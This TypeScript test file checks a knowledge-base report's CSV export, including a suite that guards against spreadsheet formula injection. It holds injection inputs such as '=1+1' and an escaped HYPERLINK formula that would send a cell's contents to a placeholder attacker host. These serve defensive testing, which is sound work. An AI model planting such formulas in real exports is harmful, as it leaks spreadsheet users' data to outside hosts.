// The table: complete, read by a third-party parser, and harmless in a spreadsheet.
import { parse } from 'csv-parse/sync'
import { describe, expect, test } from 'vitest'
import { CSV_COLUMNS, formatReportCsv } from '../../../src/cli/report/format-report-csv.ts'
import { longReport } from './long-report.ts'
import { sampleReport, tidyReport } from '../../inspect/report/sample-report.ts'

type Row = Readonly<Record<string, string>>

/** Strict: every row has as many cells as the header, and quotes are valid. */
const read = (csv: string): Row[] => parse(csv, { columns: true, bom: true, record_delimiter: '\r\n' })

/** Text that Excel, LibreOffice and Google Sheets treat as a formula, except for numbers. */
const isFormula = (text: string) => /^\s*[=+\-@\uFF0B\uFF0D\uFF1D\uFF20]/.test(text) && !/^-?\d+$/.test(text)

test('has the documented columns, a row for each finding, and one for each note', async () => {
  const report = await sampleReport()
  const csv = formatReportCsv(report)
  expect(csv.startsWith(`\uFEFF${CSV_COLUMNS.join(',')}\r\n`)).toBe(true)
  expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/)
  const { reviews, links, unowned, translations } = report
  const kinds = read(csv).map(({ finding }) => finding)
  const counted = Object.fromEntries(
    [...new Set(kinds)].map((kind) => [kind, kinds.filter((each) => each === kind).length]),
  )
  expect(counted).toEqual({
    overdue: reviews.overdue.total,
    due: reviews.due.total,
    // 1,160 of them are only counted, as are 12,336 articles without a file: two notes beside those of the report.
    later: 40,
    never: 2,
    undated: 3,
    broken: links.broken.total,
    disagreement: 3,
    translation: translations?.total,
    redirect: 3,
    foreign: unowned.entries.filter(({ kind }) => kind === 'foreign').length,
    orphan: unowned.entries.filter(({ kind }) => kind === 'orphan').length,
    note: 4,
  })
  expect(
    read(csv)
      .filter(({ finding }) => finding === 'note')
      .map(({ detail }) => detail)
      .slice(0, 2),
  ).toEqual([
    'later: 1,160 more are counted but not listed.',
    'orphan, foreign: 12,336 more are counted but not listed.',
  ])
})

test('no cell is longer than a spreadsheet accepts', async () => {
  const [first = '', ...rows] = formatReportCsv(await longReport()).split('\r\n')
  expect(first.startsWith('\ufefffinding,')).toBe(true)
  expect(Math.max(...rows.flatMap((row) => row.split(',')).map(({ length }) => length))).toBeLessThan(32_767)
})

test('contains everything known about a review and a link', async () => {
  const report = await sampleReport({ owners: 'email' })
  const rows = read(formatReportCsv(report))
  const overdue = report.reviews.overdue.entries.find(
    ({ fileDate, file }) => fileDate !== undefined && file !== undefined,
  )
  expect(rows.find(({ article_id }) => article_id === overdue?.id)).toMatchObject({
    finding: 'overdue',
    status: overdue?.isDraft === true ? 'draft' : 'published',
    file: overdue?.file,
    line: '6',
    column: '1',
    review_date: overdue?.date,
    days: String(overdue?.days),
    detail: 'its file has 2027-09-01; kb sync sends that',
  })
  const several = report.links.broken.entries.find(({ places }) => places.length === 3)
  const [first, second] = several?.places ?? []
  expect(
    rows.find(({ finding, other_places = '' }) => finding === 'broken' && other_places !== ''),
  ).toMatchObject({
    link: several?.url,
    host: several?.host,
    file: first?.file,
    line: String(first?.line),
    column: '5',
    other_places: `${second?.file}:${second?.line}:5; content/_footer.md:2:1`,
  })
  const entries = report.links.broken.entries.map((each) => ({ ...each, reason: '404 Not Found' }))
  const links = { ...report.links, broken: { ...report.links.broken, entries } }
  const judged = read(formatReportCsv({ ...report, links })).find(({ finding }) => finding === 'broken')
  expect(judged?.['detail']).toBe('here: 404 Not Found')
  expect(rows.some(({ owners = '' }) => owners.startsWith('Ada Lovelace <ada@example.org>'))).toBe(true)
  expect(formatReportCsv(await sampleReport())).not.toContain('Ada')
})

describe('no cell becomes a formula', () => {
  test('in any field of the sample', async () => {
    for (const owners of ['none', 'email'] as const) {
      const csv = formatReportCsv(await sampleReport({ owners, broken: 300, overdue: 100 }))
      const cells = read(csv).flatMap((row) => Object.values(row))
      expect(cells.filter(isFormula)).toEqual([])
      // If a semicolon separates cells, as in many countries, commas and quotes within a cell are text.
      const parted = csv.split('\r\n').flatMap((line) => line.split(';'))
      expect(parted.filter((cell) => isFormula(cell.replace(/^"/, '')))).toEqual([])
      expect(cells).toContain(`'=HYPERLINK("https://evil.example/?x="&A1,"Click")`)
    }
  })

  test.each([
    ['=1+1', "'=1+1"],
    ['\t=1+1', "' =1+1"],
    ['\r\n@x', "' @x"],
    ['\u00a0-1', "'\u00a0-1"],
    ['＝1', "'＝1"],
    ['a;=1', "a;'=1"],
    ['a; +1;-2', "a;' +1;'-2"],
    ['-3', "'-3"],
    ['a-b = c; d', 'a-b = c; d'],
    ['"=1"', '"=1"'],
  ])('%j is %j', async (title, cell) => {
    const report = await tidyReport()
    const [first, ...others] = report.reviews.later.entries
    const entries = first === undefined ? [] : [{ ...first, title }, ...others]
    const changed = { ...report, reviews: { ...report.reviews, later: { total: 3, entries } } }
    expect(read(formatReportCsv(changed))[0]?.['title']).toBe(cell)
  })
})

test('a report without findings has only a header', async () => {
  const report = await tidyReport()
  const nothing = { ...report, reviews: { ...report.reviews, later: { total: 0, entries: [] } } }
  expect(formatReportCsv(nothing)).toBe(`\uFEFF${CSV_COLUMNS.join(',')}\r\n`)
})
